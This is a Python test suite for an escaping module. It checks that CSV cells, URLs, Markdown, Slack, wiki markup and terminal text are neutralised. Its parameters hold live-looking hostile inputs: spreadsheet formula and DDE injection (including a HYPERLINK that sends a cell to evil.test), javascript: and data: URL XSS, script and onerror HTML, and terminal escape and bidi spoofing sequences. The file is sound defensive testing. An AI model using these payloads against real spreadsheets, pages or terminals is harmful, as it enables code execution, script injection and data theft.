"""The escaping functions, one format at a time: what a spreadsheet, a Markdown viewer, Slack or a terminal would
make of the result."""

from __future__ import annotations

import csv
import io

import pytest
from markdown_it import MarkdownIt

from syncer import escape

ESC = "\x1b"
BIDI = "\u202e"


def render_markdown(text: str) -> str:
    """What a CommonMark viewer that allows raw HTML (GitHub, Confluence, Linear) turns the text into."""
    return MarkdownIt("commonmark").enable("table").render(text)


@pytest.mark.parametrize(
    "raw",
    [
        '=HYPERLINK("http://evil.test?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "＝1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_shown_as_text(raw: str) -> None:
    cell = escape.csv_cell(raw)
    assert isinstance(cell, str)
    assert cell.startswith("'")
    assert cell.lstrip("'").lstrip() == escape.clean(raw).lstrip()


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert escape.csv_cell(-2.5) == -2.5
    assert escape.csv_cell(7) == 7
    assert escape.csv_cell("-2") == "-2"  # a negative number as text is not a formula
    assert escape.csv_cell("1e3") == "1e3"
    assert escape.csv_cell(None) == ""
    assert escape.csv_cell("Fix login") == "Fix login"
    assert escape.csv_cell("a = b") == "a = b"


def test_a_csv_row_round_trips_with_quotes_commas_and_newlines_kept_in_one_cell() -> None:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow([escape.csv_cell('a "b", c\nd'), escape.csv_cell(-1.5)])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [['a "b", c\nd', "-1.5"]]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.domain)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\x00javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.test/x",
        "/relative/path",
        "http:/no-host",
        "",
        "http://[::1",
    ],
)
def test_only_http_and_https_urls_become_links(url: str) -> None:
    assert escape.http_url(url) is None
    assert escape.markdown_link("x", url) == "x"
    assert escape.slack_link(url, "x") == "x"


def test_an_http_url_is_kept_with_characters_that_would_break_markup_encoded() -> None:
    assert escape.http_url("https://acme.test/browse/ACME-1") == "https://acme.test/browse/ACME-1"
    assert escape.http_url('https://acme.test/a b"><script>') == "https://acme.test/a%20b%22%3E%3Cscript%3E"
    assert escape.http_url("HTTP://acme.test/x|y") == "HTTP://acme.test/x%7Cy"


def test_markdown_renders_raw_html_links_and_images_as_text() -> None:
    hostile = "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![](http://evil.test/p.png) **bold** # h"
    html = render_markdown(escape.markdown(hostile))
    assert "<script" not in html and "<img" not in html and "<a " not in html and "<strong>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "![](http://evil.test/p.png)" in html  # shown as the characters typed


def test_markdown_keeps_a_table_row_in_its_cells() -> None:
    row = f"| {escape.markdown('a | b')} | {escape.markdown('line1' + chr(10) + 'line2')} |"
    html = render_markdown("| x | y |\n|---|---|\n" + row + "\n")
    assert html.count("<td>") == 2
    assert "<td>a | b</td>" in html
    assert "<td>line1 line2</td>" in html


def test_markdown_link_only_for_http_with_its_label_escaped() -> None:
    html = render_markdown(escape.markdown_link("*ACME-1*", "https://acme.test/browse/ACME-1"))
    assert '<a href="https://acme.test/browse/ACME-1">*ACME-1*</a>' in html


def test_slack_text_cannot_mention_or_link() -> None:
    text = escape.slack("<!channel> @here <@U123> <https://evil.test|click> & co")
    assert "<" not in text and ">" not in text
    assert text == "&lt;!channel&gt; @here &lt;@U123&gt; &lt;https://evil.test|click&gt; &amp; co"
    assert escape.slack_link("https://acme.test/1", "a|b <!here>") == "<https://acme.test/1|a¦b &lt;!here&gt;>"


def test_terminal_escapes_control_and_bidi_characters_are_stripped() -> None:
    hostile = f"{ESC}]0;pwned\x07{ESC}[2K{ESC}[31mred{ESC}[0m\x00nul\x08 {BIDI}gnp.exe\u2066x\u2069 \x9b2Kc1"
    assert escape.clean(hostile) == "rednul gnp.exex c1"
    assert escape.clean("tab\there\r\nline") == "tab here\nline"
    assert escape.one_line("a\nb\r\nc") == "a b c"


def test_long_text_is_clipped_with_an_ellipsis() -> None:
    assert escape.one_line("x" * 100_000, 200) == "x" * 199 + "…"
    assert escape.clip("short", 200) == "short"


def test_wiki_markup_renders_no_link_macro_or_mention() -> None:
    assert escape.wiki("[~admin] {html}<b>{html} [x|javascript:a]") == (
        "\\[\\~admin\\] \\{html\\}<b>\\{html\\} \\[x\\|javascript:a\\]"
    )
